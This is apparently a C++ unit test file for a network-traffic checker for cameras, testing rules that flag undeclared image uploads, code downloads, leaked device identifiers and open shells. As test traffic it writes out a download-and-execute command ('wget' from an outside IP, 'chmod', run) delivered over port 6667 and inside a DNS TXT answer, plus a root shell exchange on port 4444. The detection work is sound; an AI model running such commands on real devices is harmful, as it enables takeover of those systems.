#include "tests/unit/traffic_variations.hpp"

using namespace cambench;
using namespace cambench::traffic;

TEST_CASE("pictures_may_go_only_where_they_are_declared_to", "[checks]") {
    const std::vector<Act> acts{
        [](Wire& wire, const Variation& variation) {
            for (int i = 0; i < 4; ++i)
                wire.wait(paced(variation, 4))
                    .connect(ip(variation.address), 80, post(variation.stranger, jpeg()));
        },
        [](Wire& wire, const Variation& variation) {
            for (int i = 0; i < 4; ++i)
                wire.wait(paced(variation, 4))
                    .connect(
                        ip(variation.address), 80,
                        post(variation.stranger, to_bytes("{\"p\":\"" + base64(as_text(jpeg())) + "\"}")));
        },
        [](Wire& wire, const Variation& variation) {
            for (std::uint16_t i = 0; i < 100; ++i) {
                wire.wait(paced(variation, 0.04));
                wire.out(ip(variation.address), 17,
                         udp(7000, 80,
                             ByteWriter()
                                 .u8(0x80)
                                 .u8(96)
                                 .u16(i)
                                 .u32(i * 3600U)
                                 .u32(0x51515151)
                                 .zeros(200)
                                 .take()));
            }
        },
        [](Wire& wire, const Variation& variation) {
            for (int i = 0; i < 4; ++i)
                wire.wait(paced(variation, 4))
                    .connect(ip(variation.address), 80,
                             ByteWriter().zeros(40).u32(1).u32(0x6742c01e).u32(0xd9008000).zeros(900).take());
        }};
    for (const auto& act : acts) {
        must_be_declared("no-media-leaving", act, [](Declaration& declaration, const Variation& variation) {
            declaration.destinations.push_back(
                {.name = variation.stranger, .port = 80, .purpose = "snapshots on alarm"});
        });
    }
    const auto& variation = variations().front();
    auto wire = begin(variation);
    wire.connect(ip(variation.address), 80, post(variation.stranger, jpeg()));
    auto declaration = vendor();
    declaration.destinations.push_back(entry(variation, 80, Transport::tcp, "http", "health report"));
    CHECK(judged("no-media-leaving", seen(wire, variation), &declaration).verdict == Verdict::fail);
}

TEST_CASE("programs_may_come_only_from_declared_update_servers", "[checks]") {
    const Act act = [](Wire& wire, const Variation& variation) {
        const auto body = ByteWriter().u8(0x7f).text("ELF").u8(1).u8(1).u8(1).zeros(500).take();
        for (int i = 0; i < 4; ++i)
            wire.wait(paced(variation, 4))
                .connect(ip(variation.address), 80,
                         to_bytes("GET /x HTTP/1.1\r\nHost: " + variation.stranger + "\r\n\r\n"),
                         to_bytes("HTTP/1.1 200 OK\r\n\r\n") + body);
    };
    must_be_declared("no-code-arriving", act, [](Declaration& declaration, const Variation& variation) {
        declaration.destinations.push_back(entry(variation, 80, Transport::tcp, "http", "firmware update"));
    });
    const Act orders = [](Wire& wire, const Variation& variation) {
        for (int i = 0; i < 4; ++i)
            wire.wait(paced(variation, 4))
                .connect(ip(variation.address), 6667, to_bytes("hello"),
                         to_bytes("cd /tmp; wget http://198.51.100.3/a; chmod 777 a; ./a"));
    };
    for (const auto& variation : variations()) {
        auto wire = begin(variation);
        orders(wire, variation);
        const auto declaration = vendor();
        CHECK(judged("no-code-arriving", seen(wire, variation), &declaration).verdict == Verdict::fail);
    }
}

TEST_CASE("nobody_declares_orders_in_look_ups_or_a_shell_given_away", "[checks]") {
    const auto text_answer = [](std::string_view text) {
        const auto name = "boot.vendor.example";
        return dns_answer(
            9, name, {{name, 16, ByteWriter().u8(static_cast<std::uint8_t>(text.size())).text(text).take()}},
            16);
    };
    const auto& variation = variations().front();
    const auto declaration = vendor();
    for (const auto& [text, expected] : std::vector<std::pair<std::string, Verdict>>{
             {"cd /tmp; wget http://198.51.100.3/a; chmod +x a", Verdict::fail},
             {"v=spf1 include:vendor.example -all", Verdict::pass}}) {
        auto wire = begin(variation);
        wire.out(wire.resolver, 17, udp(41000, 53, dns_query(9, "boot.vendor.example", 16)));
        wire.in(wire.resolver, 17, udp(53, 41000, text_answer(text)));
        CHECK(judged("no-code-arriving", seen(wire, variation), &declaration).verdict == expected);
    }
    for (const auto& [protocol, expected] :
         std::vector<std::pair<std::string, Verdict>>{{"", Verdict::fail}, {"telnet", Verdict::pass}}) {
        auto wire = begin(variation);
        wire.connect(ip(variation.address), 4444, to_bytes("# uid=0(root) gid=0(root)\n# "),
                     to_bytes("id\n"));
        auto permitting = vendor();
        permitting.destinations.push_back(entry(variation, 4444, Transport::tcp, protocol, "maintenance"));
        permitting.destinations.back().name.reset();
        permitting.destinations.back().network = Cidr(ip(variation.address), 32);
        CHECK(judged("no-code-arriving", seen(wire, variation), &permitting).verdict == expected);
    }
}

TEST_CASE("a_unit_tells_who_it_is_only_to_declared_destinations", "[checks]") {
    for (const std::string written : {"02:4b:52:00:00:01", "024B52000001", "{\"id\":\"MDI0YjUyMDAwMDAx\"}"}) {
        const Act act = [&](Wire& wire, const Variation& variation) {
            for (int i = 0; i < 4; ++i)
                wire.wait(paced(variation, 4))
                    .connect(ip(variation.address), 8080,
                             to_bytes("GET /r?u=" + written + " HTTP/1.1\r\nHost: " + variation.stranger +
                                      "\r\n\r\n"));
        };
        must_be_declared("keeps-identifiers", act, [](Declaration& declaration, const Variation& variation) {
            declaration.destinations.push_back(
                entry(variation, 8080, Transport::tcp, "http", "registration"));
        });
    }
}
